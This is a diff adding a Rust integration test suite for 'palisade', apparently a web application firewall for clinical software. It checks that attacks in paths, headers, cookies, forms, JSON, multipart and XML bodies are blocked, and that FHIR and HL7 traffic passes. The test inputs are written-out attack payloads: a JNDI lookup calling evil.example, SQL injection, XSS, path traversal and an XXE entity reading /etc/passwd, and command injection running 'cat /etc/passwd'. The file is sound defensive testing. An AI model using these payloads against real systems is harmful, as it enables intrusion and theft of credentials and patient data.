@@ -1,0 +1,232 @@
+//! Inspection through the real binary: an attack in every part of a request is blocked before the
+//! app sees it, with the rule that fired in the audit event; clinical traffic passes.
+#![allow(clippy::unwrap_used, missing_docs)]
+
+mod common;
+
+use std::time::Duration;
+
+use common::*;
+
+/// Starts palisade (block mode, defaults) in front of the echo app and waits until it serves.
+fn start(extra: &[(&str, &str)]) -> Palisade {
+    let mut b = Builder::new();
+    for (k, v) in extra {
+        b = b.env(k, v);
+    }
+    let p = b.app("python3 app.py").start();
+    p.wait_app_ready();
+    p
+}
+
+fn send(p: &Palisade, raw: String) -> Response {
+    request(p.addr(), raw.as_bytes())
+}
+
+fn post(path: &str, content_type: &str, body: &str, rid: &str) -> String {
+    format!(
+        "POST {path} HTTP/1.1\r\nHost: t\r\nContent-Type: {content_type}\r\nContent-Length: {}\r\nX-Request-Id: {rid}\r\nConnection: close\r\n\r\n{body}",
+        body.len()
+    )
+}
+
+fn get(path_and_query: &str, extra_headers: &str, rid: &str) -> String {
+    format!("GET {path_and_query} HTTP/1.1\r\nHost: t\r\n{extra_headers}X-Request-Id: {rid}\r\nConnection: close\r\n\r\n")
+}
+
+/// The security event for a request id (the WAF's block or monitor line).
+fn security_event(p: &Palisade, rid: &str) -> Option<serde_json::Value> {
+    std::thread::sleep(Duration::from_millis(150));
+    p.stdout_lines()
+        .iter()
+        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
+        .find(|v| v["http.request.id"] == rid && v["event.kind"] == "alert")
+}
+
+fn app_saw(p: &Palisade, marker: &str) -> bool {
+    std::thread::sleep(Duration::from_millis(100));
+    p.stderr_lines()
+        .iter()
+        .any(|l| l.starts_with("python-echo:") && l.contains(marker))
+}
+
+fn rid(n: u32) -> String {
+    format!("inspection-test-request-{n:04}-{}", std::process::id())
+}
+
+#[test]
+fn attacks_in_every_place_are_blocked_before_the_app_sees_them() {
+    let p = start(&[]);
+    let boundary = "XyZboundary";
+    let multipart_field = format!(
+        "--{boundary}\r\nContent-Disposition: form-data; name=\"comment\"\r\n\r\n1' UNION SELECT password FROM users--\r\n--{boundary}--\r\n"
+    );
+    let multipart_filename = format!(
+        "--{boundary}\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../../../etc/passwd\"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--{boundary}--\r\n"
+    );
+    let cases: Vec<(&str, String)> = vec![
+        (
+            "path",
+            "/files/..%2f..%2f..%2f..%2fetc%2fpasswd".to_string(),
+        ),
+        (
+            "query",
+            "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E".to_string(),
+        ),
+        ("header", "/h".to_string()),
+        ("cookie", "/c".to_string()),
+        ("form", "/form".to_string()),
+        ("json", "/fhir/Patient".to_string()),
+        ("fhir-json", "/fhir/Observation".to_string()),
+        ("multipart-field", "/upload".to_string()),
+        ("multipart-filename", "/upload2".to_string()),
+        ("xml", "/ccda".to_string()),
+        ("xxe", "/ccda2".to_string()),
+    ];
+    for (i, (place, path)) in cases.iter().enumerate() {
+        let id = rid(100 + i as u32);
+        let marker = path.to_string();
+        let raw = match *place {
+            "header" => get(path, "X-Api-Version: ${jndi:ldap://evil.example/a}\r\n", &id),
+            "cookie" => get(path, "Cookie: session=abc; pref=1 AND 1=1 UNION SELECT username,password FROM users\r\n", &id),
+            "form" => post(path, "application/x-www-form-urlencoded", "name=x&cmd=%3Bcat+%2Fetc%2Fpasswd", &id),
+            "json" => post(path, "application/json", r#"{"name":[{"family":"Smith","given":["<img src=x onerror=alert(1)>"]}]}"#, &id),
+            "fhir-json" => post(path, "application/fhir+json", r#"{"resourceType":"Observation","note":[{"text":"'; DROP TABLE patients; --"}]}"#, &id),
+            "multipart-field" => post(path, &format!("multipart/form-data; boundary={boundary}"), &multipart_field, &id),
+            "multipart-filename" => post(path, &format!("multipart/form-data; boundary={boundary}"), &multipart_filename, &id),
+            "xml" => post(path, "application/xml", "<ClinicalDocument><title><script>alert(1)</script></title></ClinicalDocument>", &id),
+            "xxe" => post(path, "application/xml", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>", &id),
+            _ => get(path, "", &id),
+        };
+        let resp = send(&p, raw);
+        assert_eq!(resp.status, 403, "{place}: {}", resp.text());
+        let ev = security_event(&p, &id).unwrap_or_else(|| panic!("{place}: no security event"));
+        assert_eq!(ev["palisade.action"], "block", "{place}: {ev}");
+        let rules = ev["rule.id"].as_array().map_or(0, Vec::len);
+        assert!(rules > 0, "{place}: the event names no rule: {ev}");
+        assert!(
+            !app_saw(&p, &marker),
+            "{place}: the app saw the blocked request"
+        );
+        // A clean request on a fresh connection still passes.
+        let clean = send(&p, get("/after", "", &rid(500 + i as u32)));
+        assert_eq!(clean.status, 200, "{place}: clean request after the block");
+    }
+}
+
+#[test]
+fn a_large_body_is_held_until_inspected() {
+    let p = start(&[]);
+    // 100 KiB of benign JSON with the attack at the very end: beyond the 64 KiB read-ahead, so the
+    // body is held chunk by chunk and released only after inspection.
+    let filler = "a".repeat(100 * 1024);
+    let body = format!(r#"{{"note":"{filler}","x":"<svg onload=alert(1)>"}}"#);
+    let id = rid(1);
+    let resp = send(&p, post("/big-json", "application/json", &body, &id));
+    assert_eq!(resp.status, 403);
+    assert!(security_event(&p, &id).is_some());
+    // Past the 64 KiB read-ahead the app may have seen the (already inspected, clean) request
+    // head, but not one byte of the body: the request is aborted before the body is released.
+    std::thread::sleep(Duration::from_millis(200));
+    let seen: Vec<String> = p
+        .stderr_lines()
+        .into_iter()
+        .filter(|l| l.contains("received POST /big-json "))
+        .collect();
+    assert!(
+        seen.iter().all(|l| l.ends_with("body_length=0")),
+        "the app received body bytes of a blocked request: {seen:?}"
+    );
+    // And a clean one of the same size passes intact.
+    let clean = format!(r#"{{"note":"{filler}"}}"#);
+    let resp = send(
+        &p,
+        post("/big-json-ok", "application/json", &clean, &rid(2)),
+    );
+    assert_eq!(resp.status, 200);
+    assert_eq!(resp.json()["body_length"], clean.len());
+}
+
+#[test]
+fn clinical_traffic_passes() {
+    let p = start(&[]);
+    let fhir = r#"{"resourceType":"Patient","id":"example","meta":{"profile":["http://hl7.org/fhir/us/core/StructureDefinition/us-core-patient"]},
+      "text":{"status":"generated","div":"<div xmlns=\"http://www.w3.org/1999/xhtml\"><p>Patient: <b>Jane Doe</b></p><table style=\"border: 1px\"><tr><td>MRN</td><td>12345</td></tr></table></div>"},
+      "name":[{"family":"O'Reilly","given":["Jane"]}],
+      "extension":[{"url":"http://hl7.org/fhir/us/core/StructureDefinition/us-core-race","valueCoding":{"system":"urn:oid:2.16.840.1.113883.6.238","code":"2106-3","display":"White"}}]}"#;
+    let obs = r#"{"resourceType":"AllergyIntolerance","code":{"coding":[{"system":"http://snomed.info/sct","code":"102263004","display":"Eggs (edible) (substance)"}]},
+      "note":[{"text":"Patient reports drop in blood pressure; select specialty hospital for follow-up; union of fracture confirmed. Watch for dizziness | recheck in 2 weeks."}]}"#;
+    let hl7 = "MSH|^~\\&|EPIC|HOSP|LAB|HOSP|202401011200||ADT^A01|MSG0001|P|2.5\rPID|1||12345^^^MRN||Doe^John^Q||19800101|M|||123 Main St^^Springfield^IL^62701\rOBX|1|NM|8867-4^Heart rate^LN||72|/min|60-100|N|||F\r";
+    let cases = [
+        ("/fhir/Patient", "application/fhir+json", fhir.to_string()),
+        ("/fhir/AllergyIntolerance", "application/fhir+json", obs.to_string()),
+        ("/hl7", "text/plain", hl7.to_string()),
+        ("/notes", "application/x-www-form-urlencoded", "note=Patient+was+told+to+select+a+time+to+drop+off+samples%3B+union+rep+called.&plan=1+tab+daily+(PO)".to_string()),
+    ];
+    for (i, (path, ct, body)) in cases.iter().enumerate() {
+        let resp = send(&p, post(path, ct, body, &rid(200 + i as u32)));
+        assert_eq!(resp.status, 200, "{path}: {}", resp.text());
+        assert_eq!(resp.json()["body_length"], body.len());
+    }
+    let smart = "/authorize?response_type=code&client_id=app&redirect_uri=https%3A%2F%2Fapp.example.org%2Fcallback&scope=launch%2Fpatient%20patient%2F*.rs%20openid%20fhirUser&state=abc123&aud=https%3A%2F%2Ffhir.example.org%2Fr4";
+    let resp = send(&p, get(smart, "", &rid(300)));
+    assert_eq!(resp.status, 200, "SMART authorize: {}", resp.text());
+}
+
+#[test]
+fn monitor_mode_logs_but_forwards() {
+    let p = start(&[("PALISADE_MODE", "monitor")]);
+    let id = rid(3);
+    let resp = send(&p, get("/search?q=%27%20OR%20%271%27%3D%271", "", &id));
+    assert_eq!(resp.status, 200);
+    let ev = security_event(&p, &id).expect("monitor event");
+    assert_eq!(ev["palisade.action"], "monitor");
+}
+
+#[test]
+fn bodies_over_the_inspection_limit() {
+    let p = start(&[("PALISADE_MAX_INSPECT_BODY", "16KiB")]);
+    let body = format!(r#"{{"note":"{}"}}"#, "b".repeat(100 * 1024));
+    let resp = send(&p, post("/too-big", "application/json", &body, &rid(4)));
+    assert_eq!(resp.status, 413);
+    // Binary uploads are not inspected and stream through whatever their size.
+    let bin = "z".repeat(2 << 20);
+    let resp = send(
+        &p,
+        post("/upload.bin", "application/octet-stream", &bin, &rid(5)),
+    );
+    assert_eq!(resp.status, 200);
+    assert_eq!(resp.json()["body_length"], 2 << 20);
+
+    let p = start(&[
+        ("PALISADE_MAX_INSPECT_BODY", "16KiB"),
+        ("PALISADE_OVERSIZE_BODY", "pass"),
+    ]);
+    let resp = send(&p, post("/too-big", "application/json", &body, &rid(6)));
+    assert_eq!(resp.status, 200);
+    assert_eq!(resp.json()["body_length"], body.len());
+}
+
+#[test]
+fn explain_names_the_rule_and_the_verdict() {
+    let dir = std::env::temp_dir().join(format!("palisade-explain-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let file = dir.join("req.http");
+    std::fs::write(
+        &file,
+        "GET /?id=1%27%20UNION%20SELECT%20password%20FROM%20users-- HTTP/1.1\nHost: x\n\n",
+    )
+    .unwrap();
+    let out = std::process::Command::new(env!("CARGO_BIN_EXE_palisade"))
+        .current_dir(&dir)
+        .env_clear()
+        .arg("explain")
+        .arg(&file)
+        .output()
+        .unwrap();
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(out.status.success(), "{text}");
+    assert!(text.contains("[sqli]"), "{text}");
+    assert!(text.contains("target: args:id"), "{text}");
+    assert!(text.contains("BLOCK"), "{text}");
+}
